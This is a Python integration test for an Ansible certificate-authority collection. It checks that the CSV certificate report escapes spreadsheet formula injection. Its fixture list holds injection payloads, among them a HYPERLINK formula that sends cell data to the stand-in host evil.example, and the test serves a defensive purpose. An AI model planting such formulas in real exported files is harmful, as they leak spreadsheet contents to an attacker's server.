# -*- coding: utf-8 -*-
# Copyright: certfleet.pki contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""certfleet.pki.report writes certificates.csv through the collection's one CSV writer: an identity that a
spreadsheet would run as a formula comes out as text."""

from __future__ import annotations

import csv
import pathlib
import sys

from integration_support import AnsibleRunner, ensure_collection_link

PASSPHRASE = 'report csv passphrase 4'
IDENTITIES = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)', '+cmd', '-2+3', 'alice']


def test_report_csv_neutralises_formulas(tmp_path, collections_path):
    root = str(ensure_collection_link())
    if root not in sys.path:
        sys.path.insert(0, root)
    from ansible_collections.certfleet.pki.plugins.module_utils.ca import service, setup  # pylint: disable=import-error
    ca = tmp_path / 'ca'
    setup.ensure_ca(ca_path=str(ca), ca_passphrase=PASSPHRASE, subject={'CN': 'Report CA'}, key_type='ec-p256')
    with service.ManagedCA(str(ca), PASSPHRASE) as opened:
        for identity in IDENTITIES:
            opened.ensure_certificate(opened.build_wanted(identity=identity, subject={'CN': identity},
                                                          key_type='ec-p256'))
    ansible = AnsibleRunner(tmp_path / 'ansible')
    reports = tmp_path / 'reports'
    run = ansible.run(pathlib.Path('certfleet.pki.report'),
                      extra_vars={'certfleet_ca_path': str(ca), 'certfleet_report_dir': str(reports)})
    assert run.returncode == 0, run.explain()
    with open(reports / 'certificates.csv', newline='', encoding='utf-8') as handle:
        rows = list(csv.DictReader(handle))
    by_identity = {row['identity']: row for row in rows}
    assert set(by_identity) == {"'" + i for i in IDENTITIES[:-1]} | {'alice'}, sorted(by_identity)
    for row in rows:
        for value in row.values():
            assert not value.startswith(('=', '+', '-', '@', '\t', '\r')) or value.lstrip('-').isdigit(), row
